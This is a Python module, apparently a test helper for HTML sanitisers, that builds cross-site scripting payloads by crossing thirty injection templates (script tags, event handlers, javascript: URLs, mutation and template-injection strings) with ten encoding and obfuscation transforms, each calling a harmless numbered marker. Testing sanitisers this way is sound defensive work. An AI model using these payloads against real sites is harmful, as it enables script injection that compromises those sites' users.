"""What runs in a page that takes text for more than text; each calls `run` with a number that says which it was."""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable

HOOK = "window.ran = []; window.alert = (what) => window.ran.push(String(what)); window.run = window.alert;"
"""For a page, before all else: what ran there."""
TEMPLATES = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<a href=javascript:{0}>x</a>",
    "javascript:{0}",
    "<body onpageshow={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<marquee onstart={0}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    '"><img src=x onerror={0}>',
    "' onmouseover={0} x='",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "<style>@import 'javascript:{0}';</style>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<form action=javascript:{0}><button autofocus>x</button></form>",
    "<template><script>{0}</script></template>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "<img src=`x`onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "\u2028<script>{0}</script>\u2029",
    "\u202e<script>{0}</script>",
)
CHANGES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.upper,
    lambda text: text.replace("<", "&lt;"),
    lambda text: text.replace("<", "%3C"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("on", "ON", 1),
    lambda text: text.replace(" ", "/", 1),
    lambda text: f"<!--{text}-->{text}",
    lambda text: f"{text}{text}",
    lambda text: f"<![CDATA[{text}]]>",
)
KINDS = len(TEMPLATES) * len(CHANGES)
FIRST = 1000
NUMBER = re.compile(r"\brun\((\d{4,})\)", re.IGNORECASE)
MADE = tuple(itertools.product(CHANGES, TEMPLATES))


def program(kind: int, number: int = 1) -> str:
    """The text of one of the `KINDS`, which calls `run(number)`. The longest has 200 characters."""
    change, template = MADE[kind % KINDS]
    return change(template.format(f"run({number})"))


def payloads(count: int) -> list[str]:
    """So many different texts that would run something if they were not only text."""
    return [program(kind) for kind in range(count)]
